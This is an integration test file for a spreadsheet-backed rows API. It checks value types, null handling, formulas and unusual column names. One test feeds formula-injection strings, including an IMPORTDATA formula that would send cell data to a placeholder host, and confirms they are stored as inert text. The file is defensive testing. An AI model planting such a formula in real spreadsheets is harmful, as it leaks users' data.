import { startStack, type Stack } from '@app/local-stack';
import { waitFor } from '@app/platform';
import { Client, Upstream } from '../support/client';
import { addTabs, cellsOf, personAt, rowsPath } from './support/tabs';

describe('cells hold what was written, and keep what was not', () => {
  let stack: Stack;
  let client: Client;
  let upstream: Upstream;
  let person: Client;
  let ids: Record<string, number>;

  beforeAll(async () => {
    stack = await startStack({
      mockEnv: { MOCK_LATENCY_MS: '1', MOCK_LATENCY_JITTER_MS: '0', MOCK_QUOTA: 'off' },
      gatewayEnv: { QUOTA_LIMIT: '100000' },
    });
    client = new Client(stack.gateways[0].baseUrl);
    upstream = new Upstream(stack.mock.baseUrl);
    person = personAt(stack.mock.baseUrl);
    ids = await addTabs(upstream, {
      cells: [
        ['id', 'a', 'b', 'c'],
        ['kept', 'old', 'old', 'old'],
      ],
      formulas: [
        ['id', 'n', 'twice'],
        ['f1', 1],
      ],
      changing: [['id', 'qty']],
      names: [['id', 'naïve/β', '売上😀', "it's", 'a.b', 'a~b', '0', 'constructor', 'toString', '__proto__']],
    });
  }, 60_000);
  afterAll(() => stack?.stop());

  const path = rowsPath('cells');

  /** What each cell of the row holds, as the service keeps it. */
  async function entered(title: string, key: string): Promise<unknown[]> {
    const row = (await cellsOf(upstream, title)).findIndex(([id]) => id === key) + 1;
    const range = encodeURIComponent(`${title}!A${row}:D${row}`);
    const fields = 'sheets.data.rowData.values.userEnteredValue';
    const answer = await person.get(`/v4/spreadsheets/mock-spreadsheet?ranges=${range}&fields=${fields}`);
    const [sheet] = answer.body.sheets as { data: { rowData: { values: { userEnteredValue?: unknown }[] }[] }[] }[];
    return sheet.data[0].rowData[0].values.map((cell) => cell.userEnteredValue);
  }

  it('leading zeros and what looks like a date or a number stay the text that they are (cases 073, 076)', async () => {
    const texts = { a: '00731', b: '5/1', c: '1940 10 5' };
    await client.post(path, { id: 't1', ...texts });
    await client.post(path, { id: 't2', a: '2031-02-03', b: '1e3', c: 'TRUE' });
    expect((await client.get(`${path}/t1`)).body).toEqual({ id: 't1', ...texts });
    expect(await entered('cells', 't1')).toEqual(['t1', '00731', '5/1', '1940 10 5'].map((stringValue) => ({ stringValue })));
    expect(await entered('cells', 't2')).toEqual(['t2', '2031-02-03', '1e3', 'TRUE'].map((stringValue) => ({ stringValue })));
  });

  it('a date that a person typed is read as the number that it is, not as how it looks (case 076)', async () => {
    await client.post(path, { id: 'typed' });
    const row = (await cellsOf(upstream, 'cells')).findIndex(([id]) => id === 'typed') + 1;
    const range = encodeURIComponent(`cells!B${row}`);
    const typed = await person.put(
      `/v4/spreadsheets/mock-spreadsheet/values/${range}?valueInputOption=USER_ENTERED&includeValuesInResponse=true`,
      { values: [['2031-02-03']] },
    );
    expect(typed.status).toBe(200);
    expect((await client.get(`${path}/typed`)).body.a).toBe(47_882);
  });

  it('null moves nothing: the value after it stays in its own column (case 079)', async () => {
    await client.post(path, { id: 'n1', a: 1, b: null, c: 3 });
    expect((await cellsOf(upstream, 'cells')).find(([id]) => id === 'n1')).toEqual(['n1', 1, '', 3]);
    expect((await client.get(`${path}/n1`)).body).toEqual({ id: 'n1', a: 1, b: '', c: 3 });
  });

  it('null keeps a person’s cell, the empty text clears it (case 081)', async () => {
    await client.patch(`${path}/kept`, { a: null, b: '', c: 'new' });
    expect(await entered('cells', 'kept')).toEqual([
      { stringValue: 'kept' },
      { stringValue: 'old' },
      undefined,
      { stringValue: 'new' },
    ]);
  });

  it('0, false and the empty text come back as themselves; short rows have every column (cases 082, 084)', async () => {
    await client.post(path, { id: 's1', a: 0, b: false, c: '' });
    await client.post(path, { id: 's2' });
    expect((await client.get(`${path}/s1`)).body).toEqual({ id: 's1', a: 0, b: false, c: '' });
    expect((await client.get(`${path}/s2`)).body).toEqual({ id: 's2', a: '', b: '', c: '' });
  });

  it('an appended empty text leaves its cell untouched, so that a formula may spill over it (case 080)', async () => {
    await upstream.edit([
      {
        updateCells: {
          start: { sheetId: ids.formulas, rowIndex: 1, columnIndex: 2 },
          rows: [{ values: [{ userEnteredValue: { formulaValue: '=B2*2' } }] }],
          fields: 'userEnteredValue',
        },
      },
    ]);
    await client.post(rowsPath('formulas'), { id: 'f2', n: 2, twice: '' });
    expect(await entered('formulas', 'f1')).toEqual([{ stringValue: 'f1' }, { numberValue: 1 }, { formulaValue: '=B2*2' }]);
    expect((await entered('formulas', 'f2')).slice(2).filter((value) => value !== undefined)).toEqual([]);
    expect((await client.get(`${rowsPath('formulas')}/f1`)).body.twice).toBe(2);
  });

  it('text that begins like a formula is stored as text and sends nothing anywhere; negative numbers are numbers (case 086)', async () => {
    const texts = ['=IMPORTDATA("http://x.invalid/?"&B2)', '+1+1', '-2', '@SUM(A1)', '＝1', '\t=1', "'=1"];
    for (const [at, a] of texts.entries()) {
      expect((await client.post(path, { id: `i${at}`, a, b: -2 })).status).toBe(201);
      expect((await entered('cells', `i${at}`)).slice(1, 3)).toEqual([{ stringValue: a }, { numberValue: -2 }]);
      expect((await client.get(`${path}/i${at}`)).body.a).toBe(a);
    }
    await client.post(path, { id: '=1+1', a: 'a key too' });
    expect((await client.get(`${path}/${encodeURIComponent('=1+1')}`)).body).toMatchObject({ id: '=1+1', a: 'a key too' });
  });

  it('a column that a person has just added or renamed is written by its name at once (case 057)', async () => {
    const row = { id: 'c1', qty: 1 };
    const seenMs = Date.now();
    expect((await client.post(rowsPath('changing'), row)).status).toBe(201);
    await waitFor('a snapshot that is not of this second', () => Date.now() - seenMs > 3_000, { timeoutMs: 10_000 });
    await upstream.write('changing!B1:C1', [['amount', 'colour']]);
    const renamed = await client.post(rowsPath('changing'), { id: 'c2', amount: 2, colour: 'red' });
    expect([renamed.status, renamed.body.code]).toEqual([201, undefined]);
    expect((await cellsOf(upstream, 'changing'))[2]).toEqual(['c2', 2, 'red']);
    // A mistake that is repeated costs no further call.
    const before = (await upstream.calls()).length;
    for (let n = 0; n < 3; n += 1) expect((await client.post(rowsPath('changing'), row)).body.code).toBe('unknown-column');
    expect((await upstream.calls()).length).toBe(before);
  });

  it.each(['naïve/β', '売上😀', "it's", 'a.b', 'a~b', '0', 'constructor', 'toString', '__proto__'])(
    'a column called %j is written and read by its name',
    async (name) => {
      const id = `column ${name}`;
      const body = JSON.stringify({ id }).replace('}', `,${JSON.stringify(name)}:"value"}`);
      const made = await client.send('POST', rowsPath('names'), body, {});
      expect(made.status).toBe(201);
      const [header, ...rows] = await cellsOf(upstream, 'names');
      expect(rows.find(([key]) => key === id)?.[header.indexOf(name)]).toBe('value');
      const read = await client.get(`${rowsPath('names')}/${encodeURIComponent(id)}`);
      expect(Object.entries(read.body as object)).toContainEqual([name, 'value']);
    },
  );
});
